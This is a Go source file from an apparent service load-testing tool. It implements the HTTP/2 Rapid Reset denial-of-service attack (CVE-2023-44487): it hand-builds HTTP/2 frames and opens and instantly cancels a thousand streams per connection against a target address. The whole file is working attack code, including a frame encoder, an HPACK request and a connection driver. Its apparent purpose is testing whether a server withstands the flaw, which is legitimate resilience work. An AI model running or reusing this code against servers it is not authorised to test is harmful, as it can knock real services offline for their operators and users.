package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/headcount-go/headcount/cmd/headcount/internal/api"
)

// resetsPerConn is how many streams the attacker opens and resets on one connection.
const resetsPerConn = 1000

// RapidReset is n HTTP/2 connections on each of which a thousand requests are made and taken back at once
// (CVE-2023-44487): none is ever waited for, so no limit of requests in flight seems to be reached.
func RapidReset(n int, from Clients) Attack {
	return Attack{
		Name:  "rapid reset",
		About: fmt.Sprintf("%d HTTP/2 connections make %d requests each and reset them at once", n, resetsPerConn),
		Shots: n, Workers: 8,
		gun: func(_ Attack, t Target, _ int, tally *Tally, _ *hold) gun {
			return &resetter{addr: t.Addr, tally: tally, from: func(shot int) net.Addr { return t.From.Addr(from.number(shot)) }}
		},
	}
}

type resetter struct {
	addr  string
	from  func(shot int) net.Addr
	tally *Tally
}

func (r *resetter) fire(ctx context.Context, shot int) (kept bool) {
	l, err := dial(ctx, r.from(shot), r.addr)
	if err == nil {
		defer hangUp(l.conn)
		defer context.AfterFunc(ctx, func() { l.conn.SetDeadline(time.Unix(1, 0)) })()
		l.conn.SetDeadline(time.Now().Add(tryWithin))
		err = l.resets(resetsPerConn)
	}
	if err != nil && ctx.Err() == nil && api.Lost(err) {
		r.tally.refuse(cutOff)
	} else {
		r.tally.note(ctx, err)
	}
	return false
}

func (r *resetter) putDown() {}

// Frames of RFC 9113, section 6.
const (
	frameHeaders   = 0x1
	frameRST       = 0x3
	frameSettings  = 0x4
	framePing      = 0x6
	frameGoAway    = 0x7
	endOfHeaders   = 0x4 | 0x1 // END_HEADERS and END_STREAM
	ack            = 0x1
	codeCancel     = 0x8
	clientPreface  = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	pingPayload    = "12345678"
	pairsPerWrite  = 50
	frameHeadBytes = 9
)

// request is GET http://x/ in HPACK (RFC 7541): three fields of the static table, and :authority as a literal.
var request = []byte{0x82, 0x86, 0x84, 0x01, 1, 'x'}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := make([]byte, frameHeadBytes, frameHeadBytes+len(payload))
	b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	b[3], b[4] = kind, flags
	binary.BigEndian.PutUint32(b[5:], stream)
	return append(b, payload...)
}

// resets makes n requests, resets each, and waits for the answer to a ping: then all have been read. The error says how
// the application ended the connection before.
func (l *line) resets(n int) error {
	cancel := binary.BigEndian.AppendUint32(nil, codeCancel)
	ended := make(chan error, 1)
	go func() { ended <- l.awaitPong() }()
	out := append([]byte(clientPreface), frame(frameSettings, 0, 0, nil)...)
	for i := range n {
		stream := uint32(2*i + 1)
		out = append(out, frame(frameHeaders, endOfHeaders, stream, request)...)
		out = append(out, frame(frameRST, 0, stream, cancel)...)
		if i%pairsPerWrite == pairsPerWrite-1 || i == n-1 {
			if _, err := l.conn.Write(out); err != nil {
				<-ended // it has been told the same, or more
				return err
			}
			out = out[:0]
		}
	}
	if _, err := l.conn.Write(frame(framePing, 0, 0, []byte(pingPayload))); err != nil {
		<-ended
		return err
	}
	return <-ended
}

var errGoAway = fmt.Errorf("the application said goodbye: %w", io.EOF)

// awaitPong reads frames until the answer to a ping, or the end.
func (l *line) awaitPong() error {
	for {
		var head [frameHeadBytes]byte
		if _, err := io.ReadFull(l.in, head[:]); err != nil {
			return err
		}
		if string(head[:5]) == "HTTP/" {
			l.conn.Close()
			return errors.New("the application does not speak HTTP/2")
		}
		size := int64(head[0])<<16 | int64(head[1])<<8 | int64(head[2])
		if _, err := io.CopyN(io.Discard, l.in, size); err != nil {
			return err
		}
		switch {
		case head[3] == frameGoAway:
			// What follows is the end of the connection. It is ended here, so that nothing is left waiting to write.
			l.conn.Close()
			return errGoAway
		case head[3] == framePing && head[4]&ack != 0:
			return nil
		}
	}
}
